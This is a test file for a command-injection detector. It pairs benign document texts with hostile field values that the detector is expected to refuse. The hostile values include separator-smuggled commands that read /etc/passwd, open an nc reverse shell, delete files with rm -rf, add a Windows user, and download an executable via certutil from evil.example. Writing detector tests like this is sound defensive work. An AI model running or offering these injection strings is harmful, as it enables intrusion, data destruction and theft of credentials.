// Lines of documents beside commands that break out of values in them: each pair of lists is one decision of the
// detector of command injection, at sensitivity 1, in a leaf of JSON.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()

const refused = (text: string): boolean => engine.text('json', 'value', 'body.note', text).refused

/** A text of many lines, whatever stands in the last ones. */
const document = (last: string): string =>
  `Dear all,\nthe release of this week is out.\nPlease read the notes.\nThey are long.\nThank you${last}`

/** A line of code that a document shows. */
const fenced = (line: string): string =>
  `Some notes of ours, as they were written.\n\n\`\`\`\n${line}\n\`\`\`\n\nThat is all.`

interface Pair {
  readonly decision: string
  readonly honest: readonly string[]
  readonly hostile: readonly string[]
}

const pairs: readonly Pair[] = [
  {
    decision: 'a separator that begins a line parts commands in a text of many lines, too',
    honest: [
      document('\n; see the list'),
      document('\n& the team'),
      document('\n| Name | Sort |\n|---|---|\n| id | date |'),
      document('\n|name|sort|\n|----|----|\n|id|date|\n'),
      document(';\n\nSort the list'),
      document('\n| stats count by host\n| sort -count'),
    ],
    hostile: [
      document('\n; cat /etc/passwd'),
      document('\r\n; cat /etc/passwd'),
      document('\n\n;id'),
      document('\n| nc 192.0.2.1 4444 -e /bin/sh'),
      document('\n&& id'),
      document('\n|| id'),
      document('\n;rm -rf /\nand so on'),
      document('\n|cat /etc/passwd|'),
      document('\n|id|'),
    ],
  },
  {
    decision: 'a name behind an address is what a messenger calls it, where nothing but words follows',
    honest: [
      '<@U2147483828|cal>',
      '<@U2147483828|cal> has joined the channel',
      'New message from <mailto:a@b.example|date>.',
      '<!subteam^S1|find> was added, see <https://a.example/log|mail>',
      '<@U1|cal> set the topic: "half-time" (again)',
    ],
    hostile: [
      '<@U1|find> x / -delete',
      '<@U1|find> x -delete',
      '<@U1|cat> x /etc/passwd',
      '<@U1|cat> x .env',
      '<@U1|cat> x; id',
      '<@U1|dig> x evil.example',
      '<@U1|sleep> x 9',
      '<@U1|reboot> now',
      '<@U1|whoami> is here',
      '<@U1|id>',
      'x <@U1 |cal>; ls -la',
    ],
  },
  {
    decision:
      'what a closed fence shows is run from its start; a value and a separator in it is no code of anybody',
    honest: [
      fenced('cd app; make test'),
      fenced('npm ci && npm test'),
      fenced('for f in *.txt; do sort "$f"; done | uniq'),
      fenced(
        `curl "https://example.com/$(ls | grep "x" | cut -d'"' -f 2)" -o "$HOME/x" && sudo installer -pkg x`,
      ),
      fenced('echo "a; b" | sort'),
      fenced(`awk '{\n  print $1\n}' a.txt | sort`),
      fenced('VERSION=1; curl https://example.com/x'),
      fenced('build | ls'),
      fenced('a.sh && rm -rf dist'),
      fenced('user@host:~$ cat a.txt | grep b'),
    ],
    hostile: [
      fenced('; id'),
      fenced('| whoami'),
      fenced('127.0.0.1; curl http://192.0.2.7/x'),
      fenced('127.0.0.1 && net user foo P@ss /add'),
      fenced('4299 || rm -rf * >/dev/null'),
      fenced("a.txt'; grep -r pass /var/www"),
      fenced('a@b.example | certutil -urlcache -f http://evil.example/x x.exe'),
      fenced('a.txt"); sleep 10;'),
    ],
  },
  {
    decision: 'steps of a build are a signal: nothing but such steps, and a span of them that words follow',
    honest: [
      'cd ../src && make test',
      'Run `cd ../src && make test` to see.',
      '`rm -rf node_modules && npm i` helps.',
      'To fix it run `rm -rf node_modules package-lock.json && npm install` and try again.',
      'git add . && git commit -m "a fix" && git push',
      'You then ssh user@host and look at it.',
    ],
    hostile: [
      'cd ../src && cat /etc/passwd',
      'cd ../src && make test; id',
      "git add . && git commit -m 'a; id'",
      "git add . && git commit -m 'a | id' && git push",
      'git commit -m "$(id)" && git push',
      'x && rm -rf node_modules',
      '`rm -rf ../x && npm i` helps.',
      '`rm -rf / && npm i` helps.',
      '`rm -rf node_modules && id` helps.',
      'x`rm -rf node_modules && npm i`y',
      'w`hoami',
      '& rd /s /q c:\\x',
    ],
  },
  {
    decision: 'a reference to a character, and a version are no commands',
    honest: [
      'REST or gRPC &dash; including the rest',
      'If you use `npm` & Node v16+, then you should upgrade',
    ],
    hostile: ['x &dash -c id', 'x & node -e process.exit()', 'x|set', '-x|cat /etc/passwd'],
  },
]

describe.each(pairs)('$decision', ({ honest, hostile }) => {
  test.each(honest)('passes %s', (text) => {
    expect(refused(text)).toBe(false)
  })
  test.each(hostile)('is refused: %s', (text) => {
    expect(refused(text)).toBe(true)
  })
})
